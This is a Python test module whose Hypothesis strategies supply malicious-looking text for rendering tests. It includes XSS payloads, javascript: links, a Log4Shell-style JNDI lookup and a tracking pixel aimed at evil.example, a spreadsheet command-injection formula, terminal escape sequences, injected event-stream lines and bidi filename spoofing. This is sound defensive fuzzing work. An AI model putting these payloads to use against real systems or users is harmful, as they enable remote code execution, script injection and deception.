"""Names, tags and descriptions as somebody would choose them who means harm to whoever reads them."""

import string
import unicodedata

from hypothesis import strategies as st

# ASCII, as group names and descriptions of EC2-Classic may be.
ASCII = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "` </code><b>` ``",
    "a | b || c \\| d \\",
    "--- \\--- === | --- |",
    "%%{init: {'theme': 'dark'}}%%",
    'end"] --> n0; click n0 "javascript:alert(1)"',
    "]]> <![CDATA[ &amp; &lt; &#x3c;",
    '\\"]; evil [URL="javascript:alert(1)"]; //',
    "<!channel> @here @everyone :skull: $x$",
    "[bold red]x[/] [link=https://evil.example]y[/link]",
    "=cmd|'/C calc'!A0",
    "{{7*7}} ${jndi:ldap://evil.example/x} %s %n {0.__class__}",
    "https://evil.example www.evil.example evil@evil.example",
]
# Tags take nearly anything.
ANY = [
    *ASCII,
    "x\x1b[2J\x1b]0;owned\x07",
    "x\x9b2J",
    "a\r\n\r\nid: 99\r\nevent: job.succeeded\r\ndata: {}\r\n\r\n",
    "a\u2028\u2028data: {}\u2029\x85",
    "# Heading\n\n- item\n\n```\ncode",
    "a\n| b | c |\n|---|---|\n| d | e |",
    "invoice\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "\u200badm\u00adin\ufeff \U000e0041",
    '{"event": "job.succeeded"}\n{"level": "info"}',
    "emoji 👩\u200d🚒 はい",
]

NEVER_SHOWN = {"Cc", "Cf", "Cs", "Zl", "Zp"}
JOINERS = "\u200c\u200d"

texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(ANY),
    st.text(alphabet=string.punctuation + " \n\r\tax0\x1b\x9b\u202e\u2028", max_size=30),
    st.builds("".join, st.lists(st.sampled_from(ANY), max_size=3)),
)


def unseen(text: str) -> list[str]:
    """Characters in `text` that move a cursor, turn the writing, or are not seen; line ends are the writer's own."""
    others = (letter for letter in text if letter not in f"\n{JOINERS}")
    return [repr(letter) for letter in others if unicodedata.category(letter) in NEVER_SHOWN]
